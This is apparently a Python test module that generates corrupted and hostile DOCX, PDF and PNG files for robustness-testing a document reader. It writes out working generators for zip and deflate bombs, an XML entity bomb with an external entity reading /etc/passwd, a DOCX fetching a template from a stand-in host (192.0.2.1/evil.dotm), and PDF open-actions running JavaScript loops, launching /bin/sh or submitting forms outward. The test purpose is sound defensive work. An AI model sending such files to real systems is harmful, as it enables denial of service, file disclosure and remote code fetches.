"""Damaged and hostile files, made from seeds: what a reader meets when somebody means harm, or a disk died."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import lru_cache
from pathlib import Path

import docx
from PIL import Image

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@lru_cache(maxsize=1)
def honest_docx() -> bytes:
    """A short record, as python-docx writes it."""
    document = docx.Document()
    document.add_paragraph("煤矿安全监管行政执法文书").alignment = 1
    document.add_paragraph("现场检查记录").alignment = 1
    document.add_paragraph("被检查单位：甲县东山煤矿")
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def honest_pdf(pages: int = 1, catalog: str = "", page: str = "") -> bytes:
    """A PDF of Latin text with `pages` pages sharing one content; extra keys for catalogue and pages."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        f"<< /Type /Pages /Count {pages} /Kids [{' '.join(f'{5 + n} 0 R' for n in range(pages))}] >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Length 56 >>\nstream\nBT /F1 12 Tf 72 720 Td (record of the inspection) Tj ET     \nendstream",
    ]
    sheet = f"/MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R {page}"
    objects += [f"<< /Type /Page /Parent 2 0 R {sheet} >>"] * pages
    return assemble_pdf(objects)


def assemble_pdf(objects: list[str], trailer: str = "") -> bytes:
    """A PDF file of these objects, numbered from 1, with its cross-reference table."""
    made = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, text in enumerate(objects, start=1):
        offsets.append(len(made))
        made += f"{number} 0 obj\n{text}\nendobj\n".encode("latin-1")
    start = len(made)
    made += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    made += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    made += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    )
    return bytes(made)


def package(parts: dict[str, bytes | str]) -> bytes:
    """A zip of these parts with the two that every DOCX needs."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in {"[Content_Types].xml": TYPES, "_rels/.rels": RELS, **parts}.items():
            zipped.writestr(name, content)
    return made.getvalue()


def document(body: str) -> str:
    """A main part with this body."""
    return f'<?xml version="1.0"?><w:document {NS}><w:body>{body}</w:body></w:document>'


def text(words: str) -> str:
    """A paragraph."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def truncated(seed: random.Random) -> bytes:
    whole = seed.choice([honest_docx(), honest_pdf(3)])
    return whole[: seed.randrange(1, len(whole))]


def flipped(seed: random.Random) -> bytes:
    whole = bytearray(seed.choice([honest_docx(), honest_pdf(3)]))
    for _ in range(seed.randrange(1, 60)):
        whole[seed.randrange(len(whole))] = seed.randrange(256)
    return bytes(whole)


def noise(seed: random.Random) -> bytes:
    head = seed.choice(
        [b"", b"%PDF-1.7\n", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"II*\x00"]
    )
    return head + seed.randbytes(seed.randrange(1, 4_000))


def empty(seed: random.Random) -> bytes:
    return seed.choice([b"", package({"word/document.xml": document("")}), b"\n"])


def encrypted(seed: random.Random) -> bytes:
    """A password-protected package is an OLE file; an encrypted PDF says so in its trailer."""
    if seed.random() < 0.5:
        return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + seed.randbytes(3_000)
    key = "28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A"
    guard = f"/Encrypt << /Filter /Standard /V 1 /R 2 /O <{key}> /U <{key}> /P -44 >> /ID [<00> <00>]"
    return assemble_pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 0 /Kids [] >>"], guard)


def zip_bomb(seed: random.Random) -> bytes:
    size = seed.choice([48, 96]) * 2**20
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zipped:
        zipped.writestr("[Content_Types].xml", TYPES)
        zipped.writestr("_rels/.rels", RELS)
        with zipped.open("word/document.xml", "w", force_zip64=True) as part:
            block = b"A" * 2**20
            for _ in range(size // 2**20):
                part.write(block)
    return made.getvalue()


def liar(seed: random.Random) -> bytes:
    """A zip that says its main part is small while it unpacks to much."""
    whole = bytearray(package({"word/document.xml": document(text("A" * 5_000_000))}))
    at = whole.rfind(b"PK\x01\x02")
    struct.pack_into("<I", whole, at + 24, seed.randrange(10, 5_000))
    return bytes(whole)


def recursive(seed: random.Random) -> bytes:
    inner = honest_docx()
    for level in range(seed.randrange(2, 30)):
        inner = package({"word/document.xml": document(text("层")), f"word/embeddings/{level}.docx": inner})
    return inner


def many_entries(seed: random.Random) -> bytes:
    return package({f"word/media/{n}.xml": "x" for n in range(seed.randrange(5_001, 6_000))})


def entity_bomb(seed: random.Random) -> bytes:
    grow = "".join(
        f'<!ENTITY m{n} "{"".join(f"&m{n - 1};" for _ in range(10)) if n else "ha"}">' for n in range(9)
    )
    outside = '<!ENTITY out SYSTEM "file:///etc/passwd">' if seed.random() < 0.5 else ""
    body = f"<w:document {NS}><w:body>{text('&m8;')}</w:body></w:document>"
    return package({"word/document.xml": f"<!DOCTYPE w:document [{grow}{outside}]>{body}"})


def deep_xml(seed: random.Random) -> bytes:
    depth = seed.choice([260, 400, 20_000])
    return package(
        {"word/document.xml": document("<w:sdt><w:sdtContent>" * depth + "</w:sdtContent></w:sdt>" * depth)}
    )


def nested_tables(seed: random.Random) -> bytes:
    depth = seed.randrange(10, 60)
    body = "<w:tbl><w:tr><w:tc>" * depth + text("深") + "</w:tc></w:tr></w:tbl>" * depth
    return package({"word/document.xml": document(body)})


def macros(seed: random.Random) -> bytes:
    body = document(text("含宏"))
    return package({"word/document.xml": body, "word/vbaProject.bin": seed.randbytes(500)})


def external(seed: random.Random) -> bytes:
    kind = seed.choice(["attachedTemplate", "image", "oleObject", "frame"])
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return package({"word/document.xml": document(text("外")), "word/_rels/document.xml.rels": rels})


def styles_in_a_ring(seed: random.Random) -> bytes:
    count = seed.randrange(1, 40)
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % count}"/></w:style>'
        for n in range(count)
    )
    body = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>环</w:t></w:r></w:p>'
    return package(
        {"word/document.xml": document(body), "word/styles.xml": f"<w:styles {NS}>{styles}</w:styles>"}
    )


def odd_numbering(seed: random.Random) -> bytes:
    level = seed.choice(["-1", "99999999999", "x", "8"])
    body = f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>'
    numbers = (
        f'<w:numbering {NS}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="9999999999999"/>'
        '<w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%9%5"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    return package({"word/document.xml": document(body), "word/numbering.xml": numbers})


def many_pages(seed: random.Random) -> bytes:
    return honest_pdf(seed.choice([700, 10_000]))


def page_ring(seed: random.Random) -> bytes:
    """Page trees and outlines that return to themselves, counts that lie."""
    kids = seed.choice(["2 0 R", "2 0 R 2 0 R", "1 0 R", "99 0 R"])
    count = seed.choice([1, -1, 2**31 - 1, 10**9])
    return assemble_pdf(
        ["<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Count {count} /Kids [{kids}] >>"]
    )


def running_pdf(seed: random.Random) -> bytes:
    action = seed.choice(
        [
            "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){}) >>",
            "/OpenAction << /S /Launch /F (/bin/sh) >>",
            "/OpenAction << /S /URI /URI (http://192.0.2.1/) >>",
            "/AA << /WC << /S /SubmitForm /F (http://192.0.2.1/) >> >>",
        ]
    )
    return honest_pdf(1, catalog=action)


def huge_sheet(seed: random.Random) -> bytes:
    side = seed.choice([10**5, 10**7, 2**31])
    return honest_pdf(1).replace(b"[0 0 595 842]", f"[0 0 {side} {side}]".encode())


def form_ring(seed: random.Random) -> bytes:
    """A drawing that contains itself."""
    stream = "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >> /Length 5 >>"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        "/Resources << /XObject << /F 4 0 R >> >> >>",
        f"{stream}\nstream\n/F Do\nendstream",
        f"<< /Length {6 * seed.randrange(1, 400)} >>\nstream\n{'/F Do ' * seed.randrange(1, 400)}\nendstream",
    ]
    return assemble_pdf(objects)


def flate_bomb(seed: random.Random) -> bytes:
    """A content stream that inflates to a hundred megabytes or so."""
    data = zlib.compress(b"q " * (seed.choice([20, 60]) * 2**20), 1)
    whole = honest_pdf(1)
    head = f"4 0 obj\n<< /Length {len(data)} /Filter /FlateDecode >>\nstream\n".encode()
    stream = head + data + b"\nendstream\nendobj\n"
    return whole[: whole.find(b"4 0 obj")] + stream + whole[whole.find(b"5 0 obj") :]


def dishonest_picture(seed: random.Random) -> bytes:
    """A picture whose head promises more pixels than anybody has memory for."""
    if seed.random() < 0.5:
        size = struct.pack(">II", seed.choice([60_000, 2**30]), seed.choice([60_000, 2**30]))
        head = b"IHDR" + size + b"\x08\x02\x00\x00\x00"
        chunk = struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))
        return b"\x89PNG\r\n\x1a\n" + chunk + b"\x00\x00\x00\x00IEND\xaeB`\x82"
    made = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(made, "PNG", optimize=True)
    return made.getvalue()


def torn_picture(seed: random.Random) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (60, 60), "white").save(made, seed.choice(["PNG", "JPEG", "TIFF"]))
    whole = made.getvalue()
    return whole[: seed.randrange(4, len(whole) - 8)]


def wrong_type(seed: random.Random) -> bytes:
    return seed.choice(
        [b"MZ" + seed.randbytes(400), b"#!/bin/sh\ntouch /tmp/ran\n", b"<html><script>1</script></html>"]
    )


MAKERS: tuple[Callable[[random.Random], bytes], ...] = (
    truncated,
    flipped,
    noise,
    empty,
    encrypted,
    zip_bomb,
    liar,
    recursive,
    many_entries,
    entity_bomb,
    deep_xml,
    nested_tables,
    macros,
    external,
    styles_in_a_ring,
    odd_numbering,
    many_pages,
    page_ring,
    running_pdf,
    huge_sheet,
    form_ring,
    flate_bomb,
    dishonest_picture,
    torn_picture,
    wrong_type,
)
COSTLY = {zip_bomb, many_entries, many_pages, flate_bomb, dishonest_picture, deep_xml, liar}
"""Makers whose files take a good part of a second to make; a large set has fewer of them."""


# odd, but with nothing to refuse: reading them as far as they go is right
HARMLESS = {
    "recursive",
    "styles_in_a_ring",
    "odd_numbering",
    "nested_tables",
    "running_pdf",
    "page_ring",
    "form_ring",
}
MAY_PASS = HARMLESS | {"truncated", "flipped", "flate_bomb", "noise", "torn_picture"}
"""Makers whose files may be read without a report: damage may spare what matters."""


def write_hostile(folder: Path, count: int, seed: int, *, costly_share: float = 0.02) -> dict[str, str]:
    """Write `count` files into `folder`, names without meaning. Out: file name → name of its maker."""
    source = random.Random(seed)
    cheap = [maker for maker in MAKERS if maker not in COSTLY]
    costly = [maker for maker in MAKERS if maker in COSTLY]
    made: dict[str, str] = {}
    for number in range(count):
        makers = costly if source.random() < costly_share else cheap
        maker = MAKERS[number] if number < len(MAKERS) else source.choice(makers)
        name = f"{source.randrange(10**8):08d}-{number}.{source.choice(['docx', 'pdf', 'png', 'tif', 'docm', 'dat'])}"
        (folder / name).write_bytes(maker(source))
        made[name] = maker.__name__
    return made
